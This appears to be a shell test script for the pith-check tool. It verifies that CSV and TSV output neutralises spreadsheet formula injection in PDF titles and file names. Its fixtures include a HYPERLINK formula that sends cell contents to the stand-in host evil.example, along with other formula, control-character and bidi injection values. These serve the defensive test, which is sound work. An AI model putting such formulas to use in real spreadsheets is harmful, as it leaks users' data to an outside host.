#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# pith-check --csv / --tsv (exiftool -csv's habit, issue 33): one header row,
# then one row per input in input order with a fixed set of columns, read
# back by python3's csv module as a spreadsheet user's script would. The
# cells a PDF controls are hostile: a title that would run as a formula
# (=, +, -, @) gets a leading ', its control and bidi characters are dropped,
# a comma, quote or newline is quoted (CSV, RFC 4180) or escaped (TSV). The
# same inputs give the same bytes for any -j. Offline.
set -euo pipefail

source "$(dirname "$0")/../support/scratch_env.sh"  # $work, $src, $bin, $data; offline, reproducible
need_tools pith-check pith-stamp
source "$(dirname "$0")/../support/cli_expect.sh"  # fail, expect_exit, expect_out, expect_err
use_zoo >/dev/null

d="$work/in"
mkdir -p "$d"
env -u PITH_RESOLVER "$bin/pith-stamp" --offline --pith "$number" --bundle "$bundle" -o "$d/stamped.pdf" "$zoo/paper.pdf" >/dev/null
# PDFs whose Info /Title (UTF-16BE) a forger chose, and a file name that is a formula.
/usr/bin/python3 - "$d" "$src/tests/support" <<'PY'
import sys
sys.path.insert(0, sys.argv[2])
from classic_pdf import classic_pdf  # the one writer of small test PDFs
def pdf(path, title):
    hexed = ("FEFF" + title.encode("utf-16-be").hex().upper()).encode()
    objects = [(1, b"<< /Type /Catalog /Pages 2 0 R >>"), (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
               (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"), (4, b"<< /Title <" + hexed + b"> >>")]
    open(path, "wb").write(classic_pdf(objects, trailer=b"/Info 4 0 R "))
pdf(sys.argv[1] + "/hostile.pdf", '=HYPERLINK("http://evil.example/?"&A1,"click"),\tx\nline two\x1b[31m\u202eevil\x07\x7f end')
pdf(sys.argv[1] + "/at.pdf", "@SUM(1+1)")
pdf(sys.argv[1] + "/+minus.pdf", "-2+3")
PY
inputs=("$d/stamped.pdf" "$d/hostile.pdf" "$d/at.pdf" "$d/+minus.pdf" "$work/missing.pdf")

expect_exit 2 --offline --csv "${inputs[@]}"
cp "$work/out" "$work/table.csv"
/usr/bin/python3 - "$work/table.csv" "$d" "$work" "$number" <<'PY' || fail "--csv read back: $(cat -A "$work/table.csv")"
import csv, sys
path, d, work, number = sys.argv[1:]
raw = open(path, "rb").read()
assert raw.endswith(b"\r\n") and raw.count(b"\r\n") >= 6, "rows end in CRLF (RFC 4180)"
rows = list(csv.reader(open(path, newline="", encoding="utf-8")))
header = ["file", "archive", "member", "kind", "verdict", "exit_code", "pith_number", "title", "reason", "warnings", "error"]
assert rows[0] == header, rows[0]
assert len(rows) == 6, len(rows)
r = [dict(zip(header, row)) for row in rows[1:]]
assert all(len(row) == len(header) for row in rows), "every row has every column"
assert (r[0]["file"], r[0]["verdict"], r[0]["exit_code"], r[0]["pith_number"]) == (f"{d}/stamped.pdf", "verified", "0", number), r[0]
assert r[0]["title"].startswith("Layered gradient accumulation"), r[0]
assert r[0]["reason"] == "" and r[0]["warnings"] == "" and r[0]["error"] == "", r[0]
# The hostile title: neutralised (leading '), controls and bidi dropped, its comma, quotes, tab and newline kept as text.
want = "'" + '=HYPERLINK("http://evil.example/?"&A1,"click"),\tx\nline two[31mevil end'
assert r[1]["title"] == want, repr(r[1]["title"])
assert (r[1]["verdict"], r[1]["exit_code"], r[1]["kind"]) == ("not_found", "3", "pdf"), r[1]
assert r[2]["title"] == "'@SUM(1+1)", r[2]
assert r[3]["file"] == f"{d}/+minus.pdf" and r[3]["title"] == "'-2+3", r[3]
assert (r[4]["file"], r[4]["verdict"], r[4]["exit_code"]) == (f"{work}/missing.pdf", "error", "2"), r[4]
assert "No such file" in r[4]["error"] and r[4]["reason"] == r[4]["error"], r[4]
for row in rows:
    for cell in row:
        assert not any(ord(c) < 0x20 and c not in "\t\n" for c in cell), repr(cell)
        assert not cell or cell[0] not in "=+-@\t\r", repr(cell)
PY
# A file name that is a formula is neutralised too (the path starts with /: the name alone, from the directory).
(cd "$d" && "$bin/pith-check" --offline --csv +minus.pdf >"$work/rel.csv" 2>/dev/null) || true
sed -n 2p "$work/rel.csv" | grep -q "^'+minus.pdf,,,pdf,not_found,3,,'-2+3," || fail "a formula file name is not neutralised: $(cat "$work/rel.csv")"

# Deterministic bytes: -j 2 gives -j 1's table.
expect_exit 2 --offline --csv -j 2 "${inputs[@]}"
cmp -s "$work/out" "$work/table.csv" || fail "--csv -j 2 differs from -j 1"

# --tsv: the same table, tab-separated, backslash escapes, LF rows.
expect_exit 2 --offline --tsv "${inputs[@]}"
/usr/bin/python3 - "$work/out" "$work/table.csv" <<'PY' || fail "--tsv read back: $(cat -A "$work/out")"
import csv, re, sys
tsv = open(sys.argv[1], "rb").read().decode("utf-8")
assert "\r" not in tsv, "TSV rows end in LF, and a CR is escaped"
unescape = lambda f: re.sub(r"\\(.)", lambda m: {"t": "\t", "n": "\n", "r": "\r", "\\": "\\"}[m.group(1)], f)
rows = [[unescape(f) for f in line.split("\t")] for line in tsv.split("\n")[:-1]]
assert rows == list(csv.reader(open(sys.argv[2], newline="", encoding="utf-8"))), rows
assert len(tsv.split("\n")) == 7, "one line per row: the title's newline is escaped"
PY

# With -r, --problems-only and -q: the header stays, the rows follow the options.
expect_exit 3 --offline --csv --problems-only -r "$d"
[[ $(/usr/bin/python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))))' "$work/out") == 4 ]] || fail "--csv --problems-only -r: $(cat "$work/out")"
grep -q stamped.pdf "$work/out" && fail "--problems-only printed the verified row"
expect_exit 3 --offline --csv -q -r "$d"
[[ ! -s $work/out ]] || fail "--csv -q printed: $(cat "$work/out")"
expect_exit 2 --offline --csv --json "$d/at.pdf"
expect_err "excludes"

((failures == 0)) || exit 1
echo "pith_check_table: ok"
